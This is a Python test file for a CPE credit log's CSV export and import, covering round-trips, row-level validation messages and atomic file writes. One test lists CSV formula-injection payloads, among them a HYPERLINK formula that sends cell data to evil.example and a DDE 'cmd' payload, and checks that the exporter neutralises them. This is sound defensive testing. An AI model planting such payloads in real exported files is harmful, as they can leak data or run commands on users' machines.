"""The CPE log as CSV: written for an audit, read back by the CPE screen's import."""

from __future__ import annotations

import csv
import datetime as dt
import io
import pathlib

import pytest

from cso_planner.db.models import CpeActivity, CpeAllocation
from cso_planner.db.opening import Database
from cso_planner.exports.cpe_csv import (
    COLUMNS,
    CsvRejected,
    known_certification_codes,
    parse_cpe_csv,
    rows_from_db,
    to_csv_text,
    write_cpe_csv,
)
from cso_planner.services.cpe import import_rows
from tests.unit.test_cli import run_cli


def _seed(database: Database) -> None:
    with database.session_factory.begin() as session:
        webinar = CpeActivity(
            date=dt.date(2026, 3, 4),
            activity='ISC2 webinar "Zero trust", part 1',
            provider="ISC2",
            credits=1.5,
            category="A",
            notes="<b>kept literally</b>\nsecond line",
        )
        webinar.allocations = [CpeAllocation(cert_code="CISSP"), CpeAllocation(cert_code="CISM")]
        book = CpeActivity(
            date=dt.date(2025, 12, 1), activity="Read: Security Risk Assessment", credits=5
        )
        session.add_all([webinar, book])


def test_csv_has_the_audit_columns_and_round_trips(db: Database, tmp_path: pathlib.Path) -> None:
    _seed(db)
    out = tmp_path / "cpe.csv"
    with db.session_factory() as session:
        assert write_cpe_csv(session, out) == 2
        original = rows_from_db(session)
        codes = known_certification_codes(session)

    records = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
    assert tuple(records[0]) == COLUMNS
    assert records[1][0] == "2025-12-01"  # oldest first
    assert records[2][5] == "CISSP;CISM"
    assert records[2][6] == "<b>kept literally</b>\nsecond line"

    parsed = parse_cpe_csv(out.read_bytes(), codes)
    assert parsed == original
    assert to_csv_text(parsed).encode("utf-8-sig") == out.read_bytes()


def test_import_adds_rows_in_the_callers_transaction(db: Database) -> None:
    text = "date,activity,credits,certifications\n2026-01-02,Conference day,8,CISSP\n"
    with db.session_factory() as session:
        rows = parse_cpe_csv(text.encode(), known_certification_codes(session))
    with db.session_factory.begin() as session:
        assert len(import_rows(session, rows)) == 1
    with db.session_factory() as session:
        (activity,) = session.query(CpeActivity).all()
        assert activity.credits == 8
        assert [a.cert_code for a in activity.allocations] == ["CISSP"]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "the file is empty"),
        ("when,what\n", "row 1: missing column(s) date, activity, credits"),
        ("date,activity,credits\n2024-13-45,Talk,1\n", "row 2, date: not a date"),
        ("date,activity,credits\n2024-01-01,,1\n", "row 2, activity: empty"),
        ("date,activity,credits\n2024-01-01,Talk,one\n", "row 2, credits: not a number"),
        ("date,activity,credits\n2024-01-01,Talk,-2\n", "row 2, credits: must be a number above 0"),
        ("date,activity,credits\n2024-01-01,Talk,nan\n", "row 2, credits: must be a number"),
        (
            "date,activity,credits,certifications\n2024-01-01,Talk,1,NOPE\n",
            "row 2, certifications: unknown certification 'NOPE'",
        ),
    ],
)
def test_bad_csv_is_refused_with_its_row(db: Database, text: str, message: str) -> None:
    with db.session_factory() as session:
        codes = known_certification_codes(session)
    with pytest.raises(CsvRejected, match="^" + message.replace("(", r"\(").replace(")", r"\)")):
        parse_cpe_csv(text.encode(), codes)


def test_invalid_utf8_is_refused(db: Database) -> None:
    with pytest.raises(CsvRejected, match="not UTF-8"):
        parse_cpe_csv(b"date,activity,credits\n2024-01-01,Caf\xe9,1\n", ["CISSP"])


def test_csv_command_writes_the_log(db: Database, tmp_path: pathlib.Path) -> None:
    _seed(db)
    db.dispose()
    out = tmp_path / "audit.csv"
    result = run_cli("--db", str(db.path), "csv", str(out))
    assert result.returncode == 0, result.stderr
    assert "Wrote 2 CPE activities" in result.stdout
    assert out.read_text("utf-8-sig").splitlines()[0] == ",".join(COLUMNS)


def test_unwritable_destination_names_the_users_file(tmp_path: pathlib.Path) -> None:
    from cso_planner.exports.atomic import write_atomically

    target = tmp_path / "missing-folder" / "cpe.csv"
    with pytest.raises(OSError) as caught:
        write_atomically(target, b"x")
    assert caught.value.filename == str(target)  # not the hidden temporary file
    folder_target = tmp_path  # a folder where a file is wanted
    with pytest.raises(OSError) as caught:
        write_atomically(folder_target, b"x")
    assert caught.value.filename == str(folder_target)
    assert not list(tmp_path.glob(".*.partial"))  # nothing left behind


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading carriage return",
    "'=already quoted once",
]


def test_exported_formulas_are_text_and_import_back_unchanged(
    db: Database, tmp_path: pathlib.Path
) -> None:
    with db.session_factory.begin() as session:
        for i, formula in enumerate(FORMULAS):
            session.add(
                CpeActivity(
                    date=dt.date(2026, 1, 1 + i),
                    activity=formula,
                    provider=formula,
                    credits=1,
                    category=formula,
                    notes=formula,
                )
            )
    out = tmp_path / "cpe.csv"
    with db.session_factory() as session:
        write_cpe_csv(session, out)
        original = rows_from_db(session)
        codes = known_certification_codes(session)
    records = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))[1:]
    for record, formula in zip(records, FORMULAS, strict=True):
        for cell in (record[1], record[2], record[4], record[6]):
            assert cell == "'" + formula  # a spreadsheet shows it, never runs it
    assert records[0][0] == "2026-01-01" and records[0][3] == "1"  # dates and numbers as they are
    assert parse_cpe_csv(out.read_bytes(), codes) == original  # the apostrophe comes off again


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("date,activity,credits\n2024-01-01,Talk,1_000\n", "row 2, credits: not a number"),
        ("date,activity,credits\n2024-01-01,Talk,1e3\n", "row 2, credits: not a number"),
        ('date,activity,credits\n2024-01-01,Talk,"1,5"\n', "row 2, credits: not a number"),
        ("date,activity,credits\n2024-01-01,Talk,inf\n", "row 2, credits: must be a number"),
        (
            "date,activity,credits\n20260601,Talk,1\n",
            "row 2, date: not a date (expected YYYY-MM-DD)",
        ),
        ("date,activity,credits\n2026-W23-1,Talk,1\n", "row 2, date: not a date"),
        ("date,activity,credits\n9999-12-31,Talk,1\n", "row 2, date: 9999-12-31 is outside"),
        ("date,activity,credits\n2026-06-01T10:00,Talk,1\n", "row 2, date: not a date"),
        (
            "date;activity;credits\n2024-01-01;Talk;1\n",
            "row 1: missing column(s) date, activity, credits (the columns seem to be separated "
            "by semicolons, not commas)",
        ),
        (
            "date\tactivity\tcredits\n2024-01-01\tTalk\t1\n",
            "row 1: missing column(s) date, activity, credits (the columns seem to be separated "
            "by tabs, not commas)",
        ),
        (
            'date,activity,credits\n2024-01-01,Talk,1\n2024-01-02,"Webinar,2\n2024-01-03,Book,3\n',
            'row 3 (line 3): a quote (") is opened and never closed',
        ),
        ('date,activity,credits\n2024-01-01,"5" floppy,1\n', "row 2 (line 2): ',' expected"),
    ],
)
def test_what_the_message_does_not_promise_is_refused(
    db: Database, text: str, message: str
) -> None:
    with db.session_factory() as session:
        codes = known_certification_codes(session)
    with pytest.raises(CsvRejected) as caught:
        parse_cpe_csv(text.encode(), codes)
    assert str(caught.value).startswith(message)


def test_plain_values_still_import(db: Database) -> None:
    text = "date,activity,credits\n2024-02-29,Leap day talk,0.5\n2024-03-01,Course,.25\n"
    with db.session_factory() as session:
        rows = parse_cpe_csv(text.encode(), known_certification_codes(session))
    assert [(r.date, r.credits) for r in rows] == [
        (dt.date(2024, 2, 29), 0.5),
        (dt.date(2024, 3, 1), 0.25),
    ]
